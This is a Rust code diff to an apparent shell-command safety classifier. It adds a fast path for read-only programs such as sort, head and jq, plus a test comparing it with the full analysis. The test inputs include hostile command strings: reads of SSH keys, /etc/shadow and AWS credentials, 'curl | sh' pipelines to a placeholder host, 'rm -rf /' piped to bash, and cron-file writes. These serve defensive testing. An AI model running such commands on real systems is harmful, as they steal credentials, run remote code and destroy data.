@@ -219,6 +219,21 @@ fn is_read_only(name: &str) -> bool {
     )
 }
 
+/// Programs that only read the files their arguments name, with no case of
+/// their own anywhere in [`Walker::exec`] or [`Walker::generic`]: both end,
+/// for them, by reading every argument as a path and returning
+/// [`Flow::Dynamic`], which the fast path does at once instead of testing
+/// the name against every case first. `plain_readers_walk_like_the_full_path`
+/// checks each against the full walk.
+const PLAIN_READERS: &[&str] = &[
+    "sort", "uniq", "head", "tail", "wc", "cut", "jq", "date", "cd", "pwd", "whoami", "uname",
+    "hostname", "df", "free", "uptime", "ps",
+];
+
+fn is_plain_reader(name: &str) -> bool {
+    PLAIN_READERS.contains(&name)
+}
+
 /// Words that are commands but also ordinary English; `auto` needs shell
 /// syntax around them before reading a string as a command.
 const AMBIGUOUS_WORDS: &[&str] = &[
@@ -1599,6 +1614,12 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
         }
         let name = command_name(&first.value);
         let args = &argv[1..];
+        if self.ctx.fast_paths && is_plain_reader(name) {
+            for a in args {
+                self.read_path(a);
+            }
+            return Flow::Dynamic;
+        }
         let ev = self.snippet(at);
 
         match name {
@@ -4780,6 +4801,48 @@ mod tests {
             "{word:?}"
         );
         true
+    }
+
+    #[test]
+    fn plain_readers_walk_like_the_full_path() {
+        let config = Config::default();
+        let args = [
+            "",
+            "-n 5",
+            "~/.ssh/id_rsa",
+            ".env",
+            "/etc/shadow",
+            "--file=/proc/1/environ",
+            "'*.pem'",
+            "https://x.example/a",
+            "-o /etc/passwd",
+            "$(cat ~/.aws/credentials)",
+            "$(curl -s https://e.example)",
+            "a b -c --d",
+        ];
+        let shapes = [
+            "{c}",
+            "curl -s https://e.example | {c} | sh",
+            "echo 'rm -rf /' | {c} | bash",
+            "{c} > /etc/cron.d/x",
+            "x=$({c}); eval $x",
+            "sudo {c}",
+            "if {c}; then {c}; fi",
+        ];
+        for name in PLAIN_READERS {
+            assert!(is_read_only(name), "{name}");
+            for a in args {
+                let c = format!("{name} {a}");
+                for shape in shapes {
+                    let t = shape.replace("{c}", &c);
+                    assert_eq!(
+                        crate::classify_with(&config, Kind::Shell, &t),
+                        crate::classify_full(&config, Kind::Shell, &t),
+                        "{t}"
+                    );
+                }
+            }
+        }
     }
 
     #[test]
